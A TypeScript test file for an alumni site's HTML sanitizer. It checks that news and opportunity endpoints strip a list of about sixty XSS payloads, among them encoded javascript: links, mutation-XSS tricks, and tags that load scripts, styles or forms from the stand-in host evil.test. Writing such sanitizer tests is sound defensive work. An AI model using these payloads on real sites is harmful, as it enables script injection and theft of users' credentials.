import { buildNews, buildOpportunity } from '../../../testing/content-factories';
import { next } from '../../../testing/factories';
import { form } from '../../../testing/form';
import { describeOnDatabase, type TestApi } from '../../../testing/test-api';

const bell = String.fromCharCode(7);
const attacks = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.test/x.js></sCrIpT>',
  '<script\n>alert(1)</script\n>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>alert(1)//<</script>',
  '<p onclick="alert(1)">a</p>',
  '<p/onmouseover=alert(1)>a</p>',
  '<p ONLOAD\n=\n"alert(1)">a</p>',
  '<b onpointerrawupdate=alert(1)>a</b>',
  '<a href="javascript:alert(1)">a</a>',
  '<a href="JaVaScRiPt:alert(1)">a</a>',
  '<a href="java\tscript:alert(1)">a</a>',
  '<a href="java\nscript:alert(1)">a</a>',
  '<a href=" \u0001javascript:alert(1)">a</a>',
  `<a href="${bell}javascript:alert(1)">a</a>`,
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">a</a>',
  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">a</a>',
  '<a href="javascript&colon;alert(1)">a</a>',
  '<a href="java&Tab;script:alert(1)">a</a>',
  '<a href="java&NewLine;script:alert(1)">a</a>',
  '<a href="vbscript:msgbox(1)">a</a>',
  '<a href="data:text/html,<script>alert(1)</script>">a</a>',
  '<a href="DATA:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">a</a>',
  '<a href="blob:https://alumni.test/x">a</a>',
  '<a href="file:///etc/passwd">a</a>',
  '<a href="https://x.test" target="_self" onclick="alert(1)" style="color:red">a</a>',
  '<a href="https://x.test" rel="opener">a</a>',
  '<a xlink:href="javascript:alert(1)">a</a>',
  '<p style="background:url(javascript:alert(1))">a</p>',
  '<style>@import "https://evil.test/x.css";</style>a',
  '<link rel=stylesheet href=https://evil.test/x.css>a',
  '<p class="ant-modal" id="root" data-x="1">a</p>',
  '<img src=x onerror=alert(1)>a',
  '<img src="https://evil.test/pixel.gif">a',
  '<img srcset="https://evil.test/pixel.gif 1x">a',
  '<picture><source srcset="https://evil.test/x"></picture>a',
  '<video poster="https://evil.test/x"><source onerror=alert(1)></video>a',
  '<svg onload=alert(1)></svg>a',
  '<svg><script>alert(1)</script></svg>a',
  '<svg><style><img src=x onerror=alert(1)></style></svg>a',
  '<svg><a xlink:href="javascript:alert(1)"><text>a</text></a></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">a',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>a',
  '<math href="javascript:alert(1)">a</math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>a',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">a</noscript>',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>a',
  '<template><script>alert(1)</script></template>a',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">a',
  '<!--><img src=x onerror=alert(1)>-->a',
  '<!--[if IE]><script>alert(1)</script><![endif]-->a',
  '<![CDATA[<script>alert(1)</script>]]>a',
  '<?xml version="1.0"?><x onload=alert(1)/>a',
  '<iframe src="https://evil.test"></iframe>a',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>a',
  '<object data="data:text/html,x"></object><embed src="//evil.test">a',
  '<base href="https://evil.test/">a',
  '<meta http-equiv="refresh" content="0;url=https://evil.test">a',
  '<form action="https://evil.test"><input name=password><button>a</button></form>',
  '<table background="javascript:alert(1)"><tr><td>a</td></tr></table>',
  '<th scope="row" onclick=alert(1)>a</th>',
  '<custom-element onclick=alert(1)>a</custom-element>',
  `${'<p>'.repeat(2_000)}a<script>alert(1)</script>`,
];

const plain = 'p|br|strong|b|em|i|u|s|h2|h3|h4|ul|ol|li|blockquote|hr|table|thead|tbody|tr|th|td|a';
/** Every tag allowed in sanitized HTML, written by hand, with its exact form. */
const allowed = new RegExp(
  `^(?:</?(?:${plain})(?: /)?>|<th scope="(?:row|col)">|` +
    '<a(?: href="[^"<>]*")? rel="noopener noreferrer" target="_blank">)$',
);

/** Dangers that a browser would see in it: a tag, an attribute, a link's scheme. */
function dangers(html: string): string[] {
  const tags = html.match(/<[^<>]*>?/g) ?? [];
  const links = [...html.matchAll(/href="([^"]*)"/g)].map(([, href = '']) => href);
  const badLinks = links.filter((href) => {
    const address = href.replaceAll('&amp;', '&').replaceAll('&quot;', '"');
    const protocol = new URL(address, 'https://alumni.test').protocol;
    return !['https:', 'http:', 'mailto:', 'tel:'].includes(protocol);
  });
  return [...tags.filter((tag) => !allowed.test(tag)), ...badLinks];
}

const writers: Record<string, (api: TestApi, html: string) => Promise<string>> = {
  'a created news item': async (api, html) => {
    const fields = { titre: `T${next()}`, contenu: `<p>début</p>${html}`, draft: '0' };
    const { body } = await api.as('accountant').post('/api/actualities/create', ...form(fields));
    return readNews(api, body['id'] as unknown as number);
  },
  'an updated news item': async (api, html) => {
    const { id } = await buildNews(api.db);
    const fields = { titre: 'T', contenu: `<p>début</p>${html}`, draft: '0' };
    await api.as('accountant').post(`/api/actualities/update/${id}`, ...form(fields));
    return readNews(api, id);
  },
  'a created opportunity': async (api, html) => {
    const { body } = await api.as('accountant').post('/api/opportunities/create', offer(html));
    return readOpportunity(api, body['id'] as unknown as number);
  },
  'an updated opportunity': async (api, html) => {
    const { id } = await buildOpportunity(api.db);
    await api.as('administrator').put(`/api/opportunities/update/${id}`, offer(html));
    return readOpportunity(api, id);
  },
};

const offer = (html: string) => ({
  type: 'STAGE',
  titre: `T${next()}`,
  publicateur: 'P',
  description: `<p>début</p>${html}`,
});
const readNews = async (api: TestApi, id: number): Promise<string> =>
  (await api.guest.get(`/api/guest/actualities/${id}`)).body['contenu'];
const readOpportunity = async (api: TestApi, id: number): Promise<string> =>
  (await api.guest.get(`/api/opportunities/${id}`)).body['description'];

test.each(attacks)('the checker detects the danger of %s', (html) => {
  expect(dangers(html)).not.toEqual([]);
});

test('the checker accepts what an editor writes', () => {
  const html =
    '<h2>Été</h2><p>a <strong>b</strong><br />1 &lt; 2</p><ul><li>c</li></ul><th scope="row">d</th>' +
    '<a href="https://x.test/?a=1&amp;b=2" rel="noopener noreferrer" target="_blank">e</a>';
  expect(dangers(html)).toEqual([]);
});

describeOnDatabase('hostile HTML', (api) => {
  describe.each(Object.entries(writers))('in %s', (_name, write) => {
    test('control: text written straight into the database is returned unchanged', async () => {
      const { id } = await buildNews(api.db, { contenu: attacks[0] ?? '' });
      expect(dangers(await readNews(api, id))).toEqual(['<script>', '</script>']);
    });

    test('removes every attack, and keeps the rest', async () => {
      const left: Record<string, string[]> = {};
      for (const attack of attacks) {
        const kept = await write(api, attack);
        expect(kept).toMatch(/^<p>début<\/p>/);
        if (dangers(kept).length > 0) left[attack] = dangers(kept);
      }
      expect(left).toEqual({});
    });

    test('sanitizing twice changes nothing more', async () => {
      const once = await write(api, attacks.join(''));
      expect(await write(api, once.replace('<p>début</p>', ''))).toBe(once);
    });
  });
});
